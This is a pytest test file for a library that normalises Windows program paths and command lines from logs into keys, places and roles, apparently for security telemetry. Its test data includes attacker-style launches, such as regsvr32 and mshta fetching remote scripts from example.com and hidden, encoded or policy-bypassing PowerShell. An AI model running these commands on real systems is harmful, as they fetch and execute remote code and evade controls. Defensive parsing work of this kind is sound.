"""One program, one key: real spellings, and anything that a log may hold."""

from __future__ import annotations

import time

import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lodger.stays.naming import (
    COMMANDS,
    FILES,
    NAMES,
    ProgramName,
    name_command,
    name_commands,
    name_files,
    name_program,
    name_programs,
)
from lodger.stays.paths import Place, path_key, place_of
from lodger.stays.roles import DESKTOPS, LAUNCHERS, SHELLS, Role

SYSTEM32 = "\\windows\\system32\\"
GUID = "3f2504e0-4f89-41d3-9a0c-0305e82c3301"


@pytest.mark.parametrize(
    "path",
    [
        r"C:\Windows\System32\notepad.exe",
        r"c:\WINDOWS\system32\NOTEPAD.EXE",
        r"D:\Windows\System32\notepad.exe",
        r"\Device\HarddiskVolume2\Windows\System32\notepad.exe",
        r"\Device\HarddiskVolume14\Windows\System32\notepad.exe",
        r"\Device\HarddiskVolumeShadowCopy3\Windows\System32\notepad.exe",
        r"\??\C:\WINDOWS\system32\notepad.exe",
        r"\\?\C:\Windows\System32\notepad.exe",
        r"\\.\C:\Windows\System32\notepad.exe",
        r"\??\\??\C:\Windows\System32\notepad.exe",
        r"%SystemRoot%\System32\notepad.exe",
        r"%windir%\system32\notepad.exe",
        r"%SystemDrive%\Windows\System32\notepad.exe",
        r"\SystemRoot\System32\notepad.exe",
        r"system32\notepad.exe",
        r'"C:\Windows\System32\notepad.exe"',
        "  C:\\Windows\\System32\\notepad.exe\t",
        "C:/Windows/System32/notepad.exe",
        r"C:\\Windows\\System32\\notepad.exe",
        r"C:\Windows\System32\drivers\..\.\notepad.exe",
        r"C:\Users\Public\..\..\Windows\System32\notepad.exe",
    ],
)
def test_every_spelling_of_a_system_program_is_one_key(path: str) -> None:
    assert path_key(path) == r"\windows\system32\notepad.exe"


@pytest.mark.parametrize(
    ("path", "key", "place"),
    [
        # people
        (r"C:\Users\ann\Downloads\a.exe", r"\users\*\downloads\a.exe", Place.DOWNLOADS),
        (r"C:\Users\ANN~1.GUS\Desktop\a.exe", r"\users\*\desktop\a.exe", Place.DOWNLOADS),
        (r"C:\Users\ann\OneDrive - Example\a.exe", r"\users\*\onedrive - example\a.exe", Place.DOWNLOADS),
        (r"C:\Users\ann\AppData\Local\Temp\a.exe", r"\users\*\appdata\local\temp\a.exe", Place.TEMP),
        (r"C:\Documents and Settings\ann\Local Settings\Temp\a.exe", r"\users\*\local settings\temp\a.exe", Place.TEMP),
        (r"C:\DOCUME~1\ann\a.exe", r"\users\*\a.exe", Place.USER),
        (r"C:\Users\ann\a.exe", r"\users\*\a.exe", Place.USER),
        (r"C:\Users\Public\Music\a.exe", r"\users\public\music\a.exe", Place.SHARED),
        (r"%APPDATA%\x\a.exe", r"\users\*\appdata\roaming\x\a.exe", Place.USER),
        (r"%LocalAppData%\x\a.exe", r"\users\*\appdata\local\x\a.exe", Place.USER),
        (r"%TEMP%\a.exe", r"\users\*\appdata\local\temp\a.exe", Place.TEMP),
        (r"%USERPROFILE%\a.exe", r"\users\*\a.exe", Place.USER),
        (r"%PUBLIC%\a.exe", r"\users\public\a.exe", Place.SHARED),
        (r"C:\$Recycle.Bin\S-1-5-21\a.exe", r"\$recycle.bin\s-1-5-21\a.exe", Place.TEMP),
        # software, and what an update changes in its path
        (r"C:\PROGRA~1\Foo\a.exe", r"\program files\foo\a.exe", Place.PROGRAMS),
        (r"C:\PROGRA~2\Foo\a.exe", r"\program files (x86)\foo\a.exe", Place.PROGRAMS),
        (r"%ProgramFiles(x86)%\Foo\a.exe", r"\program files (x86)\foo\a.exe", Place.PROGRAMS),
        (r"C:\Program Files\Foo\92.0.902.67\a.exe", r"\program files\foo\*\a.exe", Place.PROGRAMS),
        (r"C:\Program Files\Foo\v1_2\a.exe", r"\program files\foo\*\a.exe", Place.PROGRAMS),
        (r"C:\Program Files\Foo\2024\a.exe", r"\program files\foo\2024\a.exe", Place.PROGRAMS),
        (
            r"C:\Program Files\WindowsApps\Microsoft.WindowsCalculator_10.1906.55.0_x64__8wekyb3d8bbwe\Calculator.exe",
            r"\program files\windowsapps\*\calculator.exe",
            Place.PROGRAMS,
        ),
        (
            r"C:\Windows\WinSxS\amd64_microsoft-windows-foo_31bf3856ad364e35_10.0.19041.1_none_0123456789abcdef\a.exe",
            r"\windows\winsxs\*\a.exe",
            Place.SYSTEM,
        ),
        (r"C:\Users\ann\AppData\Local\slack\app-4.36.140\slack.exe",
         r"\users\*\appdata\local\slack\*\slack.exe", Place.USER),
        (rf"C:\ProgramData\Package Cache\{{{GUID}}}\a.exe", r"\programdata\package cache\*\a.exe", Place.SHARED),
        (rf"C:\Windows\Temp\{GUID.upper()}\a.exe", r"\windows\temp\*\a.exe", Place.TEMP),
        (r"C:\Windows\Temp\0123456789abcdef\a.exe", r"\windows\temp\*\a.exe", Place.TEMP),
        # a program's own name is never generalised
        (r"C:\Foo\1.2.3.exe", r"\foo\1.2.3.exe", Place.OTHER),
        # shares, other media, roots
        (r"\\srv\share\a.exe", r"\\srv\share\a.exe", Place.REMOTE),
        (r"\\?\UNC\srv\share\a.exe", r"\\srv\share\a.exe", Place.REMOTE),
        (r"\??\UNC\srv\share\a.exe", r"\\srv\share\a.exe", Place.REMOTE),
        (r"\Device\Mup\srv\share\a.exe", r"\\srv\share\a.exe", Place.REMOTE),
        (r"\Device\Mup\;LanmanRedirector\;Z:0001\srv\share\a.exe", r"\\srv\share\a.exe", Place.REMOTE),
        (r"\Device\CdRom0\setup.exe", r"\setup.exe", Place.SHARED),
        (r"C:\a.exe", r"\a.exe", Place.SHARED),
        (r"C:\Windows\Tasks\a.exe", r"\windows\tasks\a.exe", Place.SHARED),
        # not below Windows, whatever it begins with
        (r"C:\Windows\..\Users\Public\a.exe", r"\users\public\a.exe", Place.SHARED),
        (r"C:\WindowsApps\a.exe", r"\windowsapps\a.exe", Place.OTHER),
        (r"\SystemRootkit\a.exe", r"\systemrootkit\a.exe", Place.OTHER),
        # POSIX paths keep their case
        ("/usr/bin/Python3", "/usr/bin/Python3", Place.SYSTEM),
        ("/tmp/a", "/tmp/a", Place.TEMP),
        ("/home/ann/Downloads/a", "/home/ann/Downloads/a", Place.USER),
        ("/home/ann/downloads/a", "/home/ann/downloads/a", Place.DOWNLOADS),
        # no path at all
        ("System", "system", Place.OTHER),
        ("", "", Place.OTHER),
        ('""', "", Place.OTHER),
        ("C:", "", Place.OTHER),
    ],
)  # fmt: skip
def test_a_path_has_its_key_and_place(path: str, key: str, place: Place) -> None:
    assert (path_key(path), place_of(path_key(path))) == (key, place)


@pytest.mark.parametrize(
    ("path", "role"),
    [
        (r"C:\Windows\explorer.exe", Role.DESKTOP),
        (r"C:\Users\ann\explorer.exe", Role.PLAIN),
        (r"C:\Windows\System32\services.exe", Role.LAUNCHER),
        (r"C:\Windows\Temp\services.exe", Role.PLAIN),
        ("System", Role.LAUNCHER),
        (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", Role.SHELL),
        (r"C:\Windows\SysWOW64\cmd.exe", Role.SHELL),
        (r"C:\Program Files\PowerShell\7\pwsh.exe", Role.SHELL),
        (r"C:\Users\Public\cmd.exe", Role.PLAIN),
        (r"C:\Program Files\Google\Chrome\Application\chrome.exe", Role.OPENER),
        (r"C:\Users\ann\AppData\Local\Google\Chrome\Application\chrome.exe", Role.OPENER),
        (r"C:\Users\ann\Downloads\chrome.exe", Role.PLAIN),
        (r"C:\Users\ann\AppData\Local\Temp\chrome.exe", Role.PLAIN),
        (r"C:\Windows\System32\rundll32.exe", Role.BODY),
        (r"C:\Program Files\Foo\foo.exe", Role.PLAIN),
    ],
)
def test_a_role_belongs_to_a_place_and_not_to_a_name_alone(path: str, role: Role) -> None:
    assert name_program(path, None).role is role


@pytest.mark.parametrize("keys", [DESKTOPS, LAUNCHERS, SHELLS])
def test_what_has_a_role_is_listed_by_its_key(keys: frozenset[str]) -> None:
    assert {path_key(key) for key in keys} == keys


@pytest.mark.parametrize(
    ("command", "name"),
    [
        (r"svchost.exe -k netsvcs -p -s Schedule", "svchost.exe (schedule)"),
        (r"svchost.exe -k netsvcs -s gpsvc", "svchost.exe (gpsvc)"),
        (r'svchost.exe -k x -s "My Service" -p', "svchost.exe (my service)"),
        (r"svchost.exe -k LocalServiceNoNetwork -p", "svchost.exe (localservicenonetwork)"),
        (r"C:\Windows\system32\svchost.exe", "svchost.exe"),
        ("", "svchost.exe"),
    ],
)
def test_a_service_host_is_named_by_its_service(command: str, name: str) -> None:
    path = r"C:\Windows\System32\svchost.exe"
    assert name_program(path, command) == ProgramName(SYSTEM32 + name, name, Place.SYSTEM, Role.LAUNCHER)


def test_a_service_host_elsewhere_is_not_named_by_what_it_claims() -> None:
    named = name_program(r"C:\Users\ann\svchost.exe", "svchost.exe -k netsvcs -s Schedule")
    assert named == ProgramName(r"\users\*\svchost.exe", "svchost.exe", Place.USER, Role.PLAIN)


RUNDLL = r"C:\Windows\System32\rundll32.exe"
REGSVR = r"C:\Windows\SysWOW64\regsvr32.exe"
WSCRIPT = r"C:\Windows\System32\wscript.exe"
MSHTA = r"C:\Windows\System32\mshta.exe"
PYTHON = r"C:\Program Files\Python311\python.exe"
JAVA = r"C:\Program Files\Java\jre\bin\javaw.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


@pytest.mark.parametrize(
    ("path", "command", "key", "place"),
    [
        (RUNDLL, r"rundll32.exe C:\Users\ann\a.dll,Run", r"\users\*\a.dll", Place.USER),
        (RUNDLL, r'"C:\Windows\System32\rundll32.exe" "C:\Users\ann\my files\a.dll",Run x',
         r"\users\*\my files\a.dll", Place.USER),
        (RUNDLL, r"rundll32 C:\ProgramData\a.dat,#1", r"\programdata\a.dat", Place.SHARED),
        (RUNDLL, "rundll32.exe shell32.dll,Control_RunDLL x", r"\windows\system32\shell32.dll", Place.SYSTEM),
        (REGSVR, r"regsvr32 /s /u C:\Users\Public\a.ocx", r"\users\public\a.ocx", Place.SHARED),
        (REGSVR, r"regsvr32 /s /n /i:http://example.com/a.sct scrobj.dll", SYSTEM32 + "scrobj.dll", Place.SYSTEM),
        (WSCRIPT, r'wscript.exe //B //Nologo "C:\Users\ann\Downloads\a.vbs" 1 2',
         r"\users\*\downloads\a.vbs", Place.DOWNLOADS),
        (WSCRIPT, "wscript.exe a.js", r"*\a.js", Place.OTHER),
        (MSHTA, "mshta.exe http://example.com/a.hta", r"http:\example.com\a.hta", Place.OTHER),
        (PYTHON, r"python.exe -u D:\tools\a.py --in b.csv", r"\tools\a.py", Place.OTHER),
        (JAVA, r"javaw.exe -Xmx1g -jar C:\Users\ann\Desktop\a.jar", r"\users\*\desktop\a.jar", Place.DOWNLOADS),
        (POWERSHELL, r"powershell.exe -nop -ExecutionPolicy Bypass -File C:\Users\ann\a.ps1 -x",
         r"\users\*\a.ps1", Place.USER),
        (POWERSHELL, r"powershell -f \\srv\netlogon\logon.ps1", r"\\srv\netlogon\logon.ps1", Place.REMOTE),
    ],
)  # fmt: skip
def test_a_borrowed_body_is_named_by_what_it_runs(path: str, command: str, key: str, place: Place) -> None:
    assert name_program(path, command) == ProgramName(key, key.rpartition("\\")[2], place, Role.BODY, script=True)


@pytest.mark.parametrize(
    ("path", "command"),
    [
        (RUNDLL, "rundll32.exe"),
        (RUNDLL, 'rundll32.exe ""'),
        (RUNDLL, "rundll32.exe ,Run"),
        (RUNDLL, "rundll32.exe C:"),
        (MSHTA, "mshta.exe vbscript:Execute"),
        (PYTHON, "python.exe"),
        (JAVA, "javaw.exe -jar"),
        (POWERSHELL, "powershell.exe -NoProfile -Command Get-Date"),
        (POWERSHELL, "powershell.exe -File"),
        (r"C:\Users\ann\rundll32.exe", r"rundll32.exe C:\Windows\System32\shell32.dll,X"),
    ],
)
def test_a_body_that_does_not_say_what_it_runs_or_no_true_body_is_itself(path: str, command: str) -> None:
    named = name_program(path, command)
    assert (named.key, named.script) == (path_key(path), False)


@pytest.mark.parametrize(
    ("command", "key"),
    [
        # services
        (r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", SYSTEM32 + "svchost.exe (schedule)"),
        (r'"C:\Program Files\Foo Bar\a.exe" --service', r"\program files\foo bar\a.exe"),
        (r"C:\Program Files\Foo Bar\a.exe --service", r"\program files\foo bar\a.exe"),
        (r"C:\Foo - Bar\a.exe -k", r"\foo - bar\a.exe"),
        (r"C:\Windows\..\Users\Public\a.exe -k", r"\users\public\a.exe"),
        (r"\??\C:\Foo\a.sys", r"\foo\a.sys"),
        (r"system32\DRIVERS\a.sys", SYSTEM32 + r"drivers\a.sys"),
        (r"\SystemRoot\System32\drivers\a.sys", SYSTEM32 + r"drivers\a.sys"),
        (r"%COMSPEC% /Q /c echo 1 > C:\Windows\Temp\a.bat", SYSTEM32 + "cmd.exe"),
        (r"C:\Windows\System32\cmd /c C:\a.exe", SYSTEM32 + "cmd.exe"),
        (r"cmd /c C:\a.bat", SYSTEM32 + "cmd.exe"),
        # autostart values
        (r"%APPDATA%\Foo\a.exe /min", r"\users\*\appdata\roaming\foo\a.exe"),
        (r"C:\PROGRA~1\Foo\a.exe", r"\program files\foo\a.exe"),
        (r"rundll32 C:\Users\ann\a.dll,Run", r"\users\*\a.dll"),
        (r'%SystemRoot%\System32\rundll32.exe "C:\Users\ann\a b.dll",Run', r"\users\*\a b.dll"),
        (r"powershell -w hidden -File C:\Users\ann\a.ps1", r"\users\*\a.ps1"),
        (r"powershell.exe -enc AAAA", SYSTEM32 + r"windowspowershell\*\powershell.exe"),
        ("explorer.exe", r"\windows\explorer.exe"),
        (r"wscript.exe //B C:\Users\ann\a.vbs", r"\users\*\a.vbs"),
        (r"\\srv\share\a.exe -q", r"\\srv\share\a.exe"),
        ("", ""),
    ],
)  # fmt: skip
def test_a_command_line_names_the_program_that_it_starts(command: str, key: str) -> None:
    assert name_command(command).key == key


def test_the_entry_of_a_program_and_its_process_have_one_key() -> None:
    for entry, image in [
        (r"%LOCALAPPDATA%\Foo\1.2.3\a.exe /x", r"C:\Users\ann\AppData\Local\Foo\2.0.0\a.exe"),
        (r"C:\PROGRA~2\Foo\a.exe", r"C:\Program Files (x86)\Foo\a.exe"),
        (r"\??\C:\Windows\Temp\a.sys", r"C:\Windows\Temp\a.sys"),
    ]:
        assert name_command(entry).key == name_program(image, None).key


PIECES = st.sampled_from(
    [
        *("\\", "\\", "\\\\", "/", ".", "..", " ", '"', "\n", "*", "İ", "ς", "C:", "c:\\", "\\\\?\\", "\\??\\"),
        *("\\\\?\\UNC\\", "\\Device\\Mup\\", "\\Device\\HarddiskVolume3", "%SystemRoot%", "%TEMP%", "%systemdrive%"),
        *("\\SystemRoot\\", "system32\\", "Users", "PROGRA~1", "Windows", "1.2.3.4", GUID, "app-1", "a.exe"),
        "a_1.2_x64__8wekyb3d8bbwe",
    ]
)
PATHS = st.lists(PIECES, max_size=12).map("".join) | st.text(max_size=60)


@given(PATHS)
@example("c:\\..\\\\?\\c:..\\c:\\a")
@example("%systemdrive%%systemdrive%\\a")
@example("\\documents and settings\\a\\b\\c")
def test_a_key_is_its_own_key_and_in_a_known_place(path: str) -> None:
    key = path_key(path)
    assert path_key(key) == key
    assert "\\..\\" not in key
    assert place_of(key) in Place


@given(PATHS, st.none() | st.lists(PIECES | st.sampled_from([" -s ", " -k ", " /s ", ","]), max_size=12).map("".join))
def test_nothing_that_a_log_may_hold_stops_the_naming(path: str, command: str | None) -> None:
    for image in (path, RUNDLL, POWERSHELL, r"C:\Windows\System32\svchost.exe"):
        named = name_program(image, command)
        assert named.name in named.key
        assert not named.script or named.key
    assert name_command(command or path).place in Place


LONG = 100_000


@pytest.mark.parametrize(
    "hostile",
    [
        "\\" * LONG,
        "\\." * LONG,
        "\\.." * LONG,
        ".\\c:" * LONG,
        "." * LONG,
        "c:" * LONG,
        "\\\\?\\" * LONG,
        '"' * LONG,
        " " * LONG,
        "\\a\\" + "1." * LONG + "\\a.exe",
        "\\a\\" + "_1.1" * LONG + "\\a.exe",
        "\\a\\" + "_1.1_" * LONG + "__\\a.exe",
        "\\a\\" + "a" * LONG + "_1.1_" * 20_000 + "\\a.exe",
        "\\a\\amd64_" + "_0123456789abcdef" * 10_000 + "\\a.exe",
        "\\a\\" + "a" * LONG + "\\a.exe",
        ".exe" * LONG,
        "C:\\a.exex" * LONG,
        'svchost -s "' + "a " * LONG,
        "svchost" + " -s a" + " " * LONG + "x",
        "svchost" + " -s" * LONG,
        'a "' * LONG,
    ],
    ids=lambda text: text[:12],
)
def test_no_text_takes_long(hostile: str) -> None:
    began = time.process_time()
    path_key(hostile)
    place_of(hostile)
    name_command(hostile)
    for image in (RUNDLL, WSCRIPT, POWERSHELL, r"C:\Windows\System32\svchost.exe"):
        name_program(image, hostile)
    assert time.process_time() - began < 3  # what tries again from every position would take minutes


def test_kernels_name_row_by_row_and_keep_what_they_were_asked() -> None:
    paths, lines = [r"C:\Windows\System32\cmd.exe", RUNDLL], [None, r"rundll32 C:\a.dll,Run"]
    names = name_programs(pa.RecordBatch.from_pydict({"path": paths, "cmd_line": lines}))
    assert names.schema.equals(NAMES)
    assert [tuple(row.values()) for row in names.to_pylist()] == [
        (paths[0], None, SYSTEM32 + "cmd.exe", "cmd.exe", "system", "shell", False),
        (RUNDLL, lines[1], r"\a.dll", "a.dll", "shared", "body", True),
    ]
    files = name_files(pa.RecordBatch.from_pydict({"path": [r"D:\Temp\a.exe", "/tmp/b"]}))
    assert files.schema.equals(FILES)
    assert [tuple(row.values()) for row in files.to_pylist()] == [
        (r"D:\Temp\a.exe", r"\temp\a.exe", "a.exe", "temp"),
        ("/tmp/b", "/tmp/b", "b", "temp"),
    ]
    commands = name_commands(pa.RecordBatch.from_pydict({"text": [r"cmd /c x"]}))
    assert commands.schema.equals(COMMANDS)
    assert [tuple(row.values()) for row in commands.to_pylist()] == [
        (r"cmd /c x", SYSTEM32 + "cmd.exe", "cmd.exe", "system")
    ]
